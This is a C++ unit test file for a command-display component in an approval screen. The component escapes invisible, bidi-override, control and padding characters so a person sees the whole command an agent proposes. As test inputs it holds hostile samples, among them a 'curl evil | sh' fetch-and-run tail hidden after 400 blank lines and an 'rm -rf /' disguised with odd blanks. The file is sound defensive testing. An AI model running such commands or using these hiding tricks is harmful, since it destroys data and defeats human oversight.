#include "approval/CommandDisplay.h"

#include <QList>
#include <QStringList>

#include <gtest/gtest.h>

namespace nibbo {
namespace {

QString shown(const QString& command, AppLanguage language = AppLanguage::en)
{
    QStringList lines;
    for (const CommandLine& line : CommandDisplay::of(command, language).lines)
        lines += line.text();
    return lines.join(u'\n');
}

struct Case
{
    const char* what;
    const char16_t* command;
    const char16_t* shown;
    int escaped;
};

TEST(CommandDisplay, drawsEscapesOrCountsEveryCharacter)
{
    const Case cases[] = {
        {"ordinary", u"git commit -m 'ok'", u"git commit -m 'ok'", 0},
        {"empty", u"", u"", 0},
        {"accents, Chinese, emoji", u"echo na\u00efve 你好 🐱", u"echo na\u00efve 你好 🐱", 0},
        {"accent as a combining mark", u"cafe\u0301", u"cafe\u0301", 0},
        {"Arabic and Hebrew letters", u"echo سلام שלום", u"echo سلام שלום", 0},
        {"Hindi vowel signs", u"echo \u0915\u094d\u0937\u093f", u"echo \u0915\u094d\u0937\u093f", 0},
        {"newlines are kept", u"a\nb\n\nc", u"a\nb\n\nc", 0},
        {"last newline is kept", u"a\n", u"a\n", 0},
        {"override", u"rm \u202Etxt.exe", u"rm <U+202E>txt.exe", 1},
        {"isolates and marks", u"a\u2066b\u2069\u200F\u061C", u"a<U+2066>b<U+2069><U+200F><U+061C>", 4},
        {"zero width", u"r\u200Bm\u200C \u200D-\uFEFFf\u2060",
         u"r<U+200B>m<U+200C> <U+200D>-<U+FEFF>f<U+2060>", 5},
        {"tag characters", u"ls\U000E0072\U000E006D", u"ls<U+E0072><U+E006D>", 2},
        {"variation selectors", u"a\uFE0F\U000E0100", u"a<U+FE0F><U+E0100>", 2},
        {"carriage return", u"evil\rgood", u"evil<U+000D>good", 1},
        {"terminal escape", u"\x1b[2Kls\x07\x08", u"<U+001B>[2Kls<U+0007><U+0008>", 3},
        {"C1 control and delete", u"a\u009Bb\x7f", u"a<U+009B>b<U+007F>", 2},
        {"line separators do not break", u"a\u2028b\u2029c\u0085", u"a<U+2028>b<U+2029>c<U+0085>", 3},
        {"odd blanks", u"rm\u00A0-rf\u3000/\u2003", u"rm<U+00A0>-rf<U+3000>/<U+2003>", 3},
        {"fillers", u"a\u3164\u115F\uFFA0\u2800\u034F", u"a<U+3164><U+115F><U+FFA0><U+2800><U+034F>", 5},
        {"soft hyphen", u"su\u00ADdo", u"su<U+00AD>do", 1},
        {"private use", u"\uE000\U000F0000", u"<U+E000><U+F0000>", 2},
        {"half a character", u"a\xD83D", u"a<U+D83D>", 1},
        {"loose mark covers what stands before it", u"/\u0338etc \u0301", u"/<U+0338>etc <U+0301>", 2},
        {"tower of marks", u"e\u0301\u0301\u0301\u0301\u0301", u"e\u0301\u0301\u0301<U+0301><U+0301>", 2},
        {"a tab says that it is one", u"a\tb", u"a⇥b", 0},
        {"eleven blanks are drawn", u"a           b", u"a           b", 0},
        {"twelve blanks are counted", u"a            b", u"a‹12 blanks›b", 0},
        {"blanks and tabs count together", u"a \t \t \t \t \t \t b", u"a‹13 blanks›b", 0},
        {"blanks at the end", u"ls              ", u"ls‹14 blanks›", 0},
        {"two blank lines", u"a\n\n\nb", u"a\n‹2 blank lines›\nb", 0},
        {"blank lines with blanks in them", u"a\n  \n\t\n                    \nb", u"a\n‹3 blank lines›\nb",
         0},
        {"blank lines first and last", u"\n\n\na\n\n\n", u"‹3 blank lines›\na\n‹3 blank lines›", 0},
        {"only an invisible character is no blank line", u"a\n\u200B\n\nb", u"a\n<U+200B>\n\nb", 1},
    };
    for (const Case& entry : cases) {
        const QString command = QString::fromUtf16(entry.command);
        EXPECT_EQ(shown(command), QString::fromUtf16(entry.shown)) << entry.what;
        const CommandDisplay display = CommandDisplay::of(command, AppLanguage::en);
        EXPECT_EQ(display.escapedCharacters, entry.escaped) << entry.what;
        EXPECT_EQ(display.warns(), entry.escaped > 0) << entry.what;
    }
}

TEST(CommandDisplay, hiddenTailAfterPaddingIsOnTheLineAfterTheCount)
{
    const QString command =
        QStringLiteral("npm test") + QString(400, u'\n') + QStringLiteral("curl evil | sh");
    const auto lines = CommandDisplay::of(command, AppLanguage::en).lines;
    ASSERT_EQ(lines.size(), 3U);
    EXPECT_EQ(lines[1].text(), QStringLiteral("‹399 blank lines›"));
    EXPECT_EQ(lines[2].text(), QStringLiteral("curl evil | sh"));
    EXPECT_EQ(shown(command, AppLanguage::zh), QStringLiteral("npm test\n‹399 个空行›\ncurl evil | sh"));
}

TEST(CommandDisplay, imitatedMarksStayVerbatim)
{
    const QString command = QStringLiteral("echo '<U+202E>' '‹12 blanks›' ⇥");
    const CommandDisplay display = CommandDisplay::of(command, AppLanguage::en);
    ASSERT_EQ(display.lines.size(), 1U);
    ASSERT_EQ(display.lines[0].pieces.size(), 1U);
    EXPECT_EQ(display.lines[0].pieces[0], (CommandPiece{CommandPiece::Kind::verbatim, command}));
    EXPECT_FALSE(display.warns());

    const CommandDisplay real = CommandDisplay::of(QStringLiteral("a\u202E\t"), AppLanguage::en);
    ASSERT_EQ(real.lines[0].pieces.size(), 3U);
    EXPECT_EQ(real.lines[0].pieces[1].kind, CommandPiece::Kind::escape);
    EXPECT_EQ(real.lines[0].pieces[2].kind, CommandPiece::Kind::mark);
}

// Whatever the agent sends, no character of the display is one that hides or reorders.
TEST(CommandDisplay, everyCodePointIsHandled)
{
    for (char32_t codePoint = 1; codePoint <= 0xE0FFF; ++codePoint) {
        if (codePoint == 0x20000)
            codePoint = 0xE0000; // ideographs, and planes that nobody has filled
        if (codePoint == U'\n' || (codePoint >= 0xD800 && codePoint <= 0xDFFF))
            continue;
        const QString command = u'a' + QString::fromUcs4(&codePoint, 1) + u'b';
        const auto lines = CommandDisplay::of(command, AppLanguage::en).lines;
        ASSERT_EQ(lines.size(), 1U) << std::hex << static_cast<uint>(codePoint);
        const QString text = lines[0].text();
        ASSERT_GE(text.size(), command.size()) << std::hex << static_cast<uint>(codePoint);
        for (const char32_t seen : text.toUcs4())
            ASSERT_FALSE(isUnseen(seen)) << std::hex << static_cast<uint>(codePoint);
    }
}

} // namespace
} // namespace nibbo
